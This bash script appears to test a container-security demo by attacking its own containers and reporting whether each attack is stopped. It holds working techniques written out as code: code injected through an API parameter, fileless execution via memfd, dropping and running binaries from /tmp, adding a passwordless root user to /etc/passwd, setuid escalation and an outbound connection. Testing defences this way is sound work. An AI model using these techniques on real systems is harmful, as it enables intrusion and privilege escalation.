#!/bin/bash
# Attacks the demo's containers, one by name, or `all`. Prints one line of JSON for each:
#   {"attack","target","exit","stopped","outcome","detail"}
# outcome: succeeded; denied (the caller got an error); killed; dropped (packets vanished);
# error (the attack could not be tried, which says nothing of protection).
# `stopped` is true for denied, killed and dropped. Exits 0 unless an outcome is `error`.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=demo/lib.sh
. "$here/lib.sh"

MARK=RAMPART-DEMO-RAN
PORT=4444
ATTACKS=(shell nc drop memfd passwd setuid outbound)
worst=0

usage() {
  say "usage: attack.sh NAME...|all|list
  shell     a shell in the web container, as by kubectl exec
  nc        netcat from the web container to the database
  drop      the API writes a program to /tmp and runs it
  memfd     the API runs a program that is in no file system
  passwd    the API adds a root user to /etc/passwd
  setuid    the API becomes root through a program left setuid
  outbound  the API connects to an address nobody learned"
  exit 2
}

report() {
  local attack=$1 target=$2 exit=$3 outcome=$4 detail=$5 stopped=false
  case $outcome in denied | killed | dropped) stopped=true ;; error) worst=1 ;; esac
  jq -nc --arg attack "$attack" --arg target "$PROJECT-$target" --argjson exit "$exit" \
    --argjson stopped $stopped --arg outcome "$outcome" --arg detail "${detail:0:300}" '$ARGS.named'
}

# An exec from outside: the engine's own words tell why it failed.
judge_exec() {
  local attack=$1 target=$2 exit=$3 output=$4 proof=$5
  if grep -qF -- "$proof" <<<"$output"; then
    report "$attack" "$target" "$exit" succeeded "ran: $proof"
  elif [ "$exit" = 137 ]; then
    report "$attack" "$target" "$exit" killed "killed before it could run"
  elif grep -qi "operation not permitted" <<<"$output"; then
    report "$attack" "$target" "$exit" denied "operation not permitted"
  elif [ "$exit" = 0 ] || [ "$exit" = 1 ]; then
    report "$attack" "$target" "$exit" dropped "ran, but got no answer"
  else
    report "$attack" "$target" "$exit" error "$(tail -1 <<<"$output")"
  fi
}

attack_shell() {
  local output exit=0
  output=$(in_container web /bin/sh -c "echo $MARK" 2>&1 </dev/null) || exit=$?
  judge_exec shell web "$exit" "$output" "$MARK"
}

attack_nc() {
  local output exit=0
  output=$(printf 'PING\r\nQUIT\r\n' | with_input web /bin/nc -w 2 "${ADDRESS[db]}" 6379 2>&1) || exit=$?
  judge_exec nc web "$exit" "$output" "+PONG"
}

with_input() {
  local service=$1
  shift
  case "$(engine)" in
    docker) docker_cli exec -i "$PROJECT-$service" "$@" ;;
    podman) podman_cli exec -i "$PROJECT-$service" "$@" ;;
    runc) runc exec "$PROJECT-$service" "$@" ;;
  esac
}

# Python run by the API through its hole, asked for by a customer through the web server: the way
# in is one that was learned. Standard input is the code; it leaves a dict in `result`.
through_api() {
  local code
  code=$(od -An -v -tx1 | tr -d ' \n')
  in_container load /bin/wget -q -O - "http://${ADDRESS[web]}:80/api/report?code=$code" 2>&1 </dev/null
}

# The API's answer: `exit` and `out` of what it ran, or the errno of what it was refused.
judge_api() {
  local attack=$1 answer=$2 exit errno out
  if ! jq -e 'has("ok")' >/dev/null 2>&1 <<<"$answer"; then
    report "$attack" api 1 error "no answer from the API: $answer"
    return
  fi
  exit=$(jq -r '.result.exit // 0' <<<"$answer")
  out=$(jq -r '.result.out // ""' <<<"$answer")
  errno=$(jq -r '.errno // "none"' <<<"$answer")
  if [ "$(jq -r .ok <<<"$answer")" = false ]; then
    case "$errno" in
      1) report "$attack" api 126 denied "$(jq -r .error <<<"$answer")" ;;
      none | 110) report "$attack" api 1 dropped "$(jq -r .error <<<"$answer")" ;;
      *) report "$attack" api 1 error "$(jq -r .error <<<"$answer")" ;;
    esac
  elif [ "$out" = "$MARK" ]; then
    report "$attack" api "$exit" succeeded "$(jq -r '.result.detail // "ran"' <<<"$answer")"
  elif [ "$exit" = -9 ]; then
    report "$attack" api 137 killed "SIGKILL before its first instruction"
  elif grep -qi "not permitted" <<<"$answer"; then
    report "$attack" api 126 denied "operation not permitted"
  else
    report "$attack" api "$exit" error "$answer"
  fi
}

attack_drop() {
  judge_api drop "$(through_api <<EOF || true
import os, subprocess
path = "/tmp/.cache-%d" % os.getpid()
with open(path, "wb") as f: f.write(open("/bin/busybox", "rb").read())
os.chmod(path, 0o755)
try:
    p = subprocess.run(["busybox", "echo", "$MARK"], executable=path, capture_output=True, text=True)
    result = {"exit": p.returncode, "out": p.stdout.strip(), "detail": "ran " + path}
finally: os.unlink(path)
EOF
  )"
}

attack_memfd() {
  judge_api memfd "$(through_api <<EOF || true
import os, subprocess
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/busybox", "rb").read())
try:
    p = subprocess.run(["busybox", "echo", "$MARK"], executable="/proc/self/fd/%d" % fd, pass_fds=(fd,), capture_output=True, text=True)
    result = {"exit": p.returncode, "out": p.stdout.strip(), "detail": "ran from memory"}
finally: os.close(fd)
EOF
  )"
}

# Puts the file back, so that the demo can be attacked again.
attack_passwd() {
  judge_api passwd "$(through_api <<EOF || true
path = "/etc/passwd"
before = open(path).read()
with open(path, "a") as f: f.write("intruder::0:0::/root:/bin/sh\n")
wrote = "intruder" in open(path).read()
with open(path, "w") as f: f.write(before)
result = {"exit": 0, "out": "$MARK" if wrote else "", "detail": "added a root user"}
EOF
  )"
}

attack_setuid() {
  judge_api setuid "$(through_api <<EOF || true
import os, subprocess
p = subprocess.run(["/usr/bin/find", "/srv", "-maxdepth", "0", "-exec", "/usr/bin/id", "-u", ";"], capture_output=True, text=True)
root = os.geteuid() != 0 and p.stdout.strip() == "0"
result = {"exit": p.returncode, "out": "$MARK" if root else "", "err": p.stderr, "detail": "uid %d became root" % os.getuid()}
EOF
  )"
}

# The listener is on the host's end of the demo's own bridge: nothing leaves the machine.
attack_outbound() {
  local folder listener
  folder=$(mktemp -d)
  /usr/bin/python3 - "$GATEWAY" "$PORT" "$folder" <<'EOF' &
import socket, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
open(sys.argv[3] + "/ready", "w").close()
server.settimeout(10)
try:
    peer, _ = server.accept()
    peer.settimeout(3)
    open(sys.argv[3] + "/got", "wb").write(peer.recv(64))
except OSError:
    pass
EOF
  listener=$!
  if ! wait_until 5 test -e "$folder/ready"; then
    report outbound api 1 error "cannot listen on $GATEWAY:$PORT"
  else
    judge_api outbound "$(through_api <<EOF || true
import socket
peer = socket.create_connection(("$GATEWAY", $PORT), timeout=3)
peer.sendall(b"$MARK")
peer.close()
result = {"exit": 0, "out": "$MARK", "detail": "sent data to $GATEWAY:$PORT"}
EOF
    )"
  fi
  kill "$listener" 2>/dev/null || true
  wait "$listener" 2>/dev/null || true
  rm -rf "$folder"
}

[ $# -gt 0 ] || usage
need_root
engine >/dev/null
[ "$1" != all ] || set -- "${ATTACKS[@]}"
if [ "$1" = list ]; then
  printf '%s\n' "${ATTACKS[@]}"
  exit 0
fi
for attack in "$@"; do
  case " ${ATTACKS[*]} " in *" $attack "*) "attack_$attack" ;; *) usage ;; esac
done
exit $worst
